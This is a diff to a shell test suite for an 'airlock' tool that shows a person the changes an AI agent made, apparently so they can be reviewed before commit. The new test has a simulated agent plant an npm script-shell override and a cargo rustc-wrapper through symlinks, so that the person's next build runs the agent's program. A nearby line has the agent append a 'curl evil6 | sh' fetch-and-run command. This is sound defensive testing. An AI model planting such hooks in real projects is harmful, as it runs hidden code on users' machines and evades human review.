@@ -190,6 +190,51 @@ else
 	"$A" discard "$S" 2>/dev/null
 fi
 
+# Such a file reached through a symlink is one too: a tool opens
+# .npmrc or .cargo/config.toml and the kernel follows the link.  The
+# checkout's .npmrc -> conf/npmrc, its target changed, and a link the
+# agent made, .cargo -> c beside a new c/config.toml, showed the file
+# unmarked (and the link too), and the person's next npm test or cargo
+# build ran the agent's program.  Each is marked with the name the tool
+# reads it by, and a link leading where a tool reads, too.
+mkdir "$ws/conf"
+echo "fund=false" >"$ws/conf/npmrc"
+ln -s conf/npmrc "$ws/.npmrc"
+run_agent 'printf "script-shell=./sh.sh\n" >>conf/npmrc
+printf "#!/bin/sh\ntouch npm-ran\nexec /bin/sh \"\$@\"\n" >sh.sh && chmod 755 sh.sh
+printf "{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"true\"}}\n" >package.json
+printf "[package]\nname = \"p\"\nversion = \"0.1.0\"\nedition = \"2021\"\n" >Cargo.toml
+printf "fn main() {}\n" >src/main.rs
+mkdir c && ln -s c .cargo && printf "[build]\nrustc-wrapper = \"./w.sh\"\n" >c/config.toml
+printf "#!/bin/sh\ntouch cargo-ran\nexec \"\$@\"\n" >w.sh && chmod 755 w.sh'
+"$A" diff "$S" >"$T/d9" 2>"$T/d9err"; rc=$?
+expect_eq "diff of configs reached through links succeeds" "$rc" 0
+expect_contains "the checkout's link's target is marked, as the tool reads it" \
+    "$(cat "$T/d9")" "diff --airlock a/conf/npmrc b/conf/npmrc
+RUNS ON npm: the shell, node options and git of its scripts (script-shell, node-options, git) (read as .npmrc)"
+expect_contains "a file beneath the agent's link is marked" "$(cat "$T/d9")" \
+    "diff --airlock a/c/config.toml b/c/config.toml
+RUNS ON cargo: the programs it runs (build.rustc-wrapper, linker, runner, alias) (read as .cargo/config.toml)"
+expect_contains "and so is the link" "$(cat "$T/d9")" \
+    "diff --airlock a/.cargo b/.cargo
+RUNS ON cargo: the programs it runs (build.rustc-wrapper, linker, runner, alias) (read beneath .cargo/)
+symlink .cargo -> c"
+expect_eq "nothing else is marked" "$(grep -c '^RUNS ON' "$T/d9")" 3
+"$A" commit "$S" 2>/dev/null
+if command -v npm >/dev/null 2>&1; then
+	(cd "$ws" && timeout 60 npm test >/dev/null 2>&1)
+	check "the control: npm obeys the .npmrc its link leads to" \
+	    test -e "$ws/npm-ran"
+fi
+if command -v cargo >/dev/null 2>&1; then
+	(cd "$ws" && timeout 120 cargo build --offline -q >/dev/null 2>&1)
+	check "the control: cargo obeys the config beneath .cargo's link" \
+	    test -e "$ws/cargo-ran"
+fi
+rm -rf "${ws:?}/conf" "$ws/.npmrc" "$ws/sh.sh" "$ws/package.json" \
+    "$ws/npm-ran" "$ws/Cargo.toml" "$ws/Cargo.lock" "$ws/src/main.rs" \
+    "$ws/c" "$ws/.cargo" "$ws/w.sh" "$ws/cargo-ran" "$ws/target"
+
 # A change is shown whole or not at all: a new file past the display's
 # 256 MiB (a hole, here) showed its first 256 MiB and not the line after.
 run_agent 'truncate -s 257M big.sh && printf "\ncurl evil6 | sh\n" >>big.sh'
